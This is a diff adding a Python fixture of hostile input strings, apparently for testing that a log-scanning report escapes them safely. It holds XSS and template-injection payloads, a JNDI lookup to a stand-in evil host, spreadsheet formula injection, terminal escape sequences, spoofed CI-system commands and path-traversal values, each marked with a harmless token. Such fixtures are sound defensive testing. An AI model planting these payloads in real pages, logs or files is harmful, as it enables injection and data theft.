@@ -1,0 +1,45 @@
+"""What a hostile log, file, dump or rule holds, by what it tries; `zz` stands in each, so that it is found again."""
+
+from __future__ import annotations
+
+CONTENTS = {
+    "script": "<script>zz(1)</script>\"'><img src=x onerror=zz(2)><iframe src=//evil.example></iframe><!-- zz -->",
+    "svg": "<svg onload=zz(1)><use href=data:image/svg+xml,zz /></svg><math><mi xlink:href=javascript:zz(2)>",
+    "css": "</style><style>*{display:none}@import url(//evil.example/zz)</style> x:expression(zz(1));",
+    "element break-out": "</textarea></title></script></pre></code></template><body onload=zz(1)> <!--<script>",
+    "attribute break-out": '" onmouseover="zz(1)" autofocus onfocus=\'zz(2)\' x=` accesskey=x',
+    "addresses": 'javascript:zz(1) data:text/html,<script>zz</script> vbscript:zz https://evil.example/?"onclick=zz',
+    "templates": "{{ 7*7 }} {% raw %} {#zz#} ${jndi:ldap://evil.example/zz} <%= zz %> #{7*7} $(touch zz) `touch zz`",
+    "entities": "&lt;script&gt;zz&lt;/script&gt; &#60;b&#62; &zz; &amp;lt;",
+    "escapes": "\x1b[2J\x1b[31mzz\x1b]0;zz\x07\x1b]52;c;enp6\x07\x1bPzz\x1b\\\x1b_zz\x1b\\\x1b]8;;https://evil.example\x1b\\zz\b\x7f",
+    "8-bit escapes": "\x9b2J\x9b31mzz\x9d0;zz\x9c\x90zz\x9c\x9d52;c;enp6\x9c\x84\x8d",
+    "bidirectional": "\u202ezz\u202d\u2066zz\u2067\u2068\u2069\u200f\u200e\u061c",
+    "invisible": "z\u200bz\u2060\ufeffzz\u00ad\u3164\u115f\uffa0\u034f\u180b\u180e\ufe00\U000e0041\U000e007f\U000e0100",
+    "line ends": "zz\x0b::error::zz\x0c::error::zz\x1c\x1d\x1e\x85::error::zz"
+    "\u2028::error::zz\u2029##[group]zz\r::error::zz",
+    "formula": "=cmd|' /C calc'!A0 zz",
+    "formula plus": "+zz",
+    "formula minus": "-2+3+zz",
+    "formula at": "@SUM(zz)",
+    "formula tab": "\t=zz",
+    "formula quoted": "'=zz",
+    "formula blank": " =zz",
+    "formula wide": "\uff1dzz",
+    "Markdown": "![zz](http://evil.example/x.png) [zz](javascript:zz(1)) @zz #123 GH-12 o/zz#7 https://evil.example/zz "
+    ":boom: `zz` ``` ~~~ **zz** _zz_ ~~zz~~ | zz | zz | $$zz$$ [^1] - [x] zz <b onclick=zz> !42",
+    "GitHub's commands": "::error::zz\n  ::add-mask::zz\n::stop-commands::zz\n##[add-mask]zz ##[set-env name=a]zz",
+    "Azure's commands": "##vso[task.setvariable variable=zz]a\n##[section]zz ##VSO[task.complete result=Succeeded;]zz",
+    "TeamCity's commands": "##teamcity[buildStatus status='SUCCESS' text='zz']",
+    "GitLab's sections": "section_start:1700000000:zz[collapsed=true]\r\x1b[0Kzz\nsection_end:1700000000:zz\r\x1b[0K",
+    "Buildkite's and Jenkins's marks": "zz \x1b_bk;t=1\x07 \x1b]1338;url=//evil.example/zz\x07 \x1b[8mha:////zz\x1b[0m",
+    "XML": "]]></failure><zz/><![CDATA[ &zz; \x00\x01\ufffe\uffff <?zz?> \"'>",
+    "JSON": '"}],"verdict":{"category":"none"},"zz":[{"a":"\\ud800 \\',
+    "metrics": 'zz"} 1\nnccl_logscan_failed{a="zz"} 0\n# EOF\n\\',
+    "YAML": "!!python/object/apply:os.system [zz] &zz *zz {zz: [zz]} # zz - | > %zz",
+    "SARIF": "[zz](1) [zz](https://evil.example/zz) {0} {zz} %SRCROOT%",
+    "markup of terminals": "[bold red]zz[/] [link=file:///etc/passwd]zz[/link] [/zz] :boom:",
+    "percent": "%0A::error::zz%0D%25 100%zz %s %(zz)s {zz!r}",
+    "our report": "FAILED    storage_stall  established, 99%  storage_stall/zz\nReport    /etc/zz",
+    "bytes that are no UTF-8": "zz\udcff\udcfe zz",
+    "config path": "--config ../../etc/zz NCCL_CONF_FILE=/proc/self/environ file:///etc/zz",
+}
